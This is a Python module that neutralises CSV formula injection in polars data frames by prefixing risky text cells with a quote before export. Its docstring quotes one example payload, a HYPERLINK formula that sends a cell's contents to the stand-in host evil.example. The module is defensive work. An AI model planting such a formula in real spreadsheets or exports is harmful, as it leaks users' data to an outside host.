"""CSV that a spreadsheet opens as text: a cell starting with `=`, `+`, `-`, `@`, a tab or a
carriage return is a formula to Excel, LibreOffice and Google Sheets, so such text cells get a
leading `'` (OWASP CSV Injection: prefix, and quote the cell). A login like
`=HYPERLINK("http://evil.example/?"&A1,"x")` in the audit log stays text."""

from __future__ import annotations

import polars as pl

#: First characters that make a cell a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralised(frame: pl.DataFrame) -> pl.DataFrame:
    """`frame` with every text cell that would be a formula prefixed with `'`."""
    texts = [name for name, dtype in frame.schema.items() if dtype == pl.String]
    if not texts:
        return frame
    pattern = "^[" + "".join("\\" + c if c in "-" else c for c in FORMULA_STARTS) + "]"
    return frame.with_columns(
        pl.when(pl.col(name).str.contains(pattern))
        .then(pl.lit("'") + pl.col(name))
        .otherwise(pl.col(name))
        .alias(name)
        for name in texts
    )


def write_csv(frame: pl.DataFrame) -> str:
    """CSV of `frame` whose text cells are never formulas."""
    return neutralised(frame).write_csv()
